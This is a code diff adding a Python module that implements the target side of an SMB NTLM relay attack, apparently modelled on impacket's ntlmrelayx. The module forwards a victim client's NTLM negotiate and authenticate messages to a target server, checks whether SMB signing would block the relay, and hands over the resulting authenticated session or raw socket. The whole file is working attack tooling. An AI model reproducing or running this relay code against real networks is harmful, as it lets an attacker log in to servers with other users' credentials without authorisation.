@@ -0,0 +1,125 @@
+import time
+import socket
+import logging
+from typing import Optional
+
+from impacket.nt_errors import STATUS_MORE_PROCESSING_REQUIRED, STATUS_SUCCESS
+from impacket.smb3 import SessionError
+from impacket.smb3structs import SMB2_DIALECT_21, SMB2_SESSION_SETUP, SMB2SessionSetup, SMB2SessionSetup_Response
+from impacket.smbconnection import SMBConnection
+
+from src.utils.spnego import unwrap_ntlmssp
+
+class SMBRelayClient:
+    """
+    Target leg of an SMB relay.
+
+    Opens an SMB2 session to the target with impacket's SMBConnection and
+    forwards the client's NTLMSSP Negotiate and Authenticate messages as raw
+    SESSION_SETUP security blobs, the way ntlmrelayx's SMB client does. Once
+    send_auth() succeeds, session holds an authenticated SMBConnection.
+    """
+
+    def __init__(self, target: str, target_name: str = None, port: int = 445, timeout: float = 5):
+        self.logger = logging.getLogger(__name__)
+        self.target = target
+        self.target_name = target_name or target
+        self.port = port
+        self.timeout = timeout
+        self.session: Optional[SMBConnection] = None
+        # perf_counter() when the negotiate finished and how long connect + negotiate took
+        self.negotiated_at = None
+        self.negotiate_s = None
+        # SessionID the target assigned and its raw answer to the relayed Type 3
+        self.session_id = 0
+        self.auth_response: Optional[bytes] = None
+
+    def init_connection(self):
+        """Connect to the target and negotiate SMB2"""
+        started = time.perf_counter()
+        # The NetBIOS session service (139) needs the server's name; impacket looks it up for *SMBSERVER
+        remote_name = self.target_name
+        if self.port == 139 and remote_name == self.target:
+            remote_name = '*SMBSERVER'
+        self.session = SMBConnection(remoteName=remote_name, remoteHost=self.target,
+                                     myName='RELAY', sess_port=self.port, timeout=self.timeout,
+                                     preferredDialect=SMB2_DIALECT_21)
+        self.negotiated_at = time.perf_counter()
+        self.negotiate_s = self.negotiated_at - started
+        self.logger.debug(f"[*] Negotiated SMB dialect {self.session.getDialect():#x} with {self.target}")
+        return self.session
+
+    def is_signing_required(self) -> bool:
+        """True if the target requires SMB signing (relayed sessions will be unusable)"""
+        return self.session.isSigningRequired()
+
+    def echo(self) -> bool:
+        """Send an SMB2 ECHO to check that an idle connection is still usable"""
+        try:
+            return bool(self.session.getSMBServer().echo())
+        except SessionError:
+            # Some servers refuse ECHO before authentication; any answer means the connection is alive
+            return True
+        except Exception as e:
+            self.logger.debug(f"[*] ECHO to {self.target} failed: {e}")
+            return False
+
+    def _session_setup(self, token: bytes):
+        v2client = self.session.getSMBServer()
+        session_setup = SMB2SessionSetup()
+        session_setup['Flags'] = 0
+        session_setup['SecurityBufferLength'] = len(token)
+        session_setup['Buffer'] = token
+
+        packet = v2client.SMB_PACKET()
+        packet['Command'] = SMB2_SESSION_SETUP
+        packet['Data'] = session_setup
+        packet_id = v2client.sendSMB(packet)
+        return v2client, v2client.recvSMB(packet_id)
+
+    def send_negotiate(self, negotiate_message: bytes) -> Optional[bytes]:
+        """Relay the client's NTLM Type 1 and return the target's Type 2 (None on failure)"""
+        if self.session is None:
+            self.init_connection()
+        v2client, answer = self._session_setup(negotiate_message)
+        if answer['Status'] != STATUS_MORE_PROCESSING_REQUIRED:
+            self.logger.error(f"[-] Target {self.target} rejected NTLM Negotiate: {answer['Status']:#x}")
+            return None
+        v2client._Session['SessionID'] = self.session_id = answer['SessionID']
+        response = SMB2SessionSetup_Response(answer['Data'])
+        challenge = unwrap_ntlmssp(response['Buffer'])
+        return bytes(challenge) if challenge is not None else None
+
+    def send_auth(self, authenticate_message: bytes) -> int:
+        """Relay the client's NTLM Type 3 and return the target's NTSTATUS"""
+        _, answer = self._session_setup(authenticate_message)
+        self.auth_response = answer.getData()
+        return answer['Status']
+
+    def dialect(self) -> int:
+        """SMB2 dialect negotiated with the target"""
+        return self.session.getDialect()
+
+    def detach_session(self) -> SMBConnection:
+        """Hand the authenticated SMBConnection over; close() no longer logs it off"""
+        session, self.session = self.session, None
+        return session
+
+    def detach_socket(self) -> socket.socket:
+        """Take over the target socket without logging off; the client is unusable afterwards"""
+        sock = self.session.getSMBServer().get_socket()
+        self.session = None
+        return sock
+
+    @staticmethod
+    def succeeded(status: int) -> bool:
+        return status == STATUS_SUCCESS
+
+    def close(self):
+        """Close the target connection"""
+        if self.session:
+            try:
+                self.session.close()
+            except Exception as e:
+                self.logger.debug(f"Error closing target connection: {e}")
+            self.session = None